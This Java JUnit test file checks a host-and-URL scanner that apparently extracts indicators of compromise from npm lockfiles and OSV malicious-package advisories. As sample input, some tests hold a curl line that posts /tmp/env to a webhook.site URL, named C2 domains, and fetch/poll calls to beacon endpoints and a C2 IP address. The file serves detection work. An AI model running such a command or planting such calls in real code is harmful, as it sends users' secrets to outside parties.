package io.iocstream.parse;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.common.net.InternetDomainName;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;

class HostScannerTest {

    @Test
    void aRealLockfileYieldsItsRegistryHostAndNoFileOrPackageNames() throws IOException {
        byte[] lock = Files.readAllBytes(Path.of("src/test/resources/lockfiles/package-lock-v2/package-lock.json"));

        assertThat(HostScanner.hosts(lock)).contains("registry.npmjs.org")
                .noneMatch(host -> host.endsWith(".tgz") || host.endsWith(".js") || host.endsWith(".json"));
    }

    @Test
    void theC2DomainsOfARealOsvEntryAreFoundInItsText() throws IOException {
        byte[] osv = Files.readAllBytes(Path.of("src/test/resources/ioc/osv/malicious/pypi/litellm/MAL-2026-2144.json"));

        assertThat(HostScanner.hosts(osv)).contains("litellm.cloud", "models.litellm.cloud");
        // each with the line it is first on
        assertThat(HostScanner.hostLines(osv, false)).containsEntry("litellm.cloud", 25)
                .containsEntry("models.litellm.cloud", 28);
    }

    @Test
    void aHostsLineIsTheFirstItIsOnWhateverTheLineEndings() {
        byte[] text = "first line\r\nsee https://webhook.site/x\n\nand webhook.site again\nthen evil.example.com"
                .getBytes(java.nio.charset.StandardCharsets.US_ASCII);
        assertThat(HostScanner.hostLines(text, false)).containsExactly(java.util.Map.entry("webhook.site", 2),
                java.util.Map.entry("evil.example.com", 5));
    }

    @Test
    void urlsBareNamesMailAndIpAddressesCountButVersionsAndFileNamesDoNot() {
        String text = """
                curl -s -d @/tmp/env https://Webhook.Site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
                see docs at example.com. or mail ops@corp.example.org
                require('lodash.merge'); open('index.js'); version 1.2.3; ip 10.0.0.1
                http://build-cache:8080/artifact
                """;

        assertThat(HostScanner.hosts(text.getBytes(StandardCharsets.UTF_8)))
                .containsExactly("webhook.site", "example.com", "corp.example.org", "10.0.0.1");
    }

    @Test
    void withUrlsAUrlsPathIsKeptBesideItsHostWithoutSchemeOrPort() {
        String text = """
                curl -s -d @/tmp/env https://Webhook.Site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7 "x"
                poll("http://142.11.206.73:8000/6202033"); see [the API](https://api.github.com/search/commits?q=x).
                just a host https://example.com/ and example.org
                """;

        assertThat(HostScanner.hostLines(text.getBytes(StandardCharsets.UTF_8), true).keySet()).containsExactly(
                "webhook.site", "142.11.206.73", "api.github.com", "example.com", "example.org",
                "webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7", "142.11.206.73/6202033",
                "api.github.com/search/commits?q=x");
        assertThat(HostScanner.hosts(text.getBytes(StandardCharsets.UTF_8)))
                .noneMatch(HostScanner::isUrl);
    }

    @Test
    void namesUnderWildcardAndExceptionRulesAreKeptAsGuavaJudgesThem() {
        // *.ck and !www.ck, *.kawasaki.jp and !city.kawasaki.jp, a private rule (github.io), and non-suffixes
        List<String> names = List.of("a.b.ck", "www.ck", "x.ck", "shop.x.kawasaki.jp", "city.kawasaki.jp",
                "evil.github.io", "github.io", "lodash.merge", "index.js", "pkg.tgz", "evil.co.uk");
        List<String> underPublicSuffix = names.stream()
                .filter(name -> InternetDomainName.from(name).isUnderPublicSuffix()).toList();

        assertThat(HostScanner.hosts(String.join(" ", names).getBytes(StandardCharsets.US_ASCII)))
                .containsExactlyElementsOf(underPublicSuffix)
                .contains("a.b.ck", "www.ck", "evil.github.io", "evil.co.uk")
                .doesNotContain("lodash.merge", "index.js");
    }

    @Test
    void anIpv6LiteralIsFoundInEveryValidSpellingAsItsOneCanonicalForm() {
        String text = """
                const c2 = "2001:DB8:0:0:0:0:0:1";      // upper case, every zero written
                fetch('http://[2001:0db8::0001]:8080/beacon?id=7')
                dial("2001:db8:c17:abcd::42")
                mapped ::ffff:142.11.206.73 and [fe80::1] in brackets.
                full 2001:db8:0:1:1:1:1:1.
                """;

        assertThat(HostScanner.hostLines(text.getBytes(StandardCharsets.UTF_8), true)).containsExactly(
                java.util.Map.entry("2001:db8::1", 1),
                java.util.Map.entry("2001:db8:c17:abcd::42", 3),
                // an IPv4-mapped address is the IPv4 host it stands for
                java.util.Map.entry("142.11.206.73", 4),
                java.util.Map.entry("fe80::1", 4),
                java.util.Map.entry("2001:db8:0:1:1:1:1:1", 5),
                java.util.Map.entry("2001:db8::1/beacon?id=7", 2));
    }

    @Test
    void aFileThatOpensWithAColonIsScannedLikeAnyOther() {
        // found by HostileBytesPropertyTest (seed 32520161567954): a candidate at offset 0 looked before the file
        for (String text : List.of("::1", ":", "::", ":::", "::ffff:142.11.206.73 x", ":2001:db8::1", "[::1]:80")) {
            assertThat(HostScanner.hosts(text.getBytes(StandardCharsets.UTF_8)))
                    .as(text).isEqualTo(HostScanner.hosts((" " + text).getBytes(StandardCharsets.UTF_8)));
        }
    }

    @Test
    void colonsAndHexThatAreNoIpv6LiteralAreNotTakenForOne() {
        String text = """
                time: "2025-03-19T15:53:40+00:00" at 12:34:56 and 10:20:30:40
                mac 00:1a:2b:3c:4d:5e, fingerprint AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89
                hash = "sha256:0f3c9a5e6d1b2c4a8e7f6d5c4b3a2910", h1:abcdEF0123=, npm:1.2.3
                use a::b; std::vec; Foo::bar(); dead::beef bare (two colons need brackets)
                x2001:db8::1 2001:db8::1x 2001:db8::1_y 2001:db8::1-z 2001:db8:::1 1:2:3:4:5:6:7:8:9
                """;

        assertThat(HostScanner.hostLines(text.getBytes(StandardCharsets.UTF_8), true).keySet())
                .noneMatch(HostScannerTest::isIpv6);
    }

    @Test
    void noRealLockfileHoldsAnIpv6LiteralUnlessOneIsWrittenIntoIt() throws IOException {
        List<Path> files;
        try (var walk = Files.walk(Path.of("src/test/resources/lockfiles"))) {
            files = walk.filter(Files::isRegularFile).sorted().toList();
        }
        assertThat(files).hasSizeGreaterThan(20);
        for (Path file : files) {
            byte[] bytes = Files.readAllBytes(file);
            assertThat(HostScanner.hostLines(bytes, true).keySet()).as(file.toString())
                    .noneMatch(HostScannerTest::isIpv6);
            // the same file with an address in it finds the address, and nothing else with a colon
            byte[] planted = ("c2 = \"2001:DB8::0001\"\n" + new String(bytes, StandardCharsets.UTF_8))
                    .getBytes(StandardCharsets.UTF_8);
            assertThat(HostScanner.hostLines(planted, true).keySet()).as(file.toString())
                    .filteredOn(HostScannerTest::isIpv6).containsExactly("2001:db8::1");
        }
    }

    /** Whether a host, or a URL's host, is an IPv6 address: the one host with a colon (a URL's path may hold one). */
    private static boolean isIpv6(String entry) {
        int slash = entry.indexOf('/');
        return (slash < 0 ? entry : entry.substring(0, slash)).contains(":");
    }
}
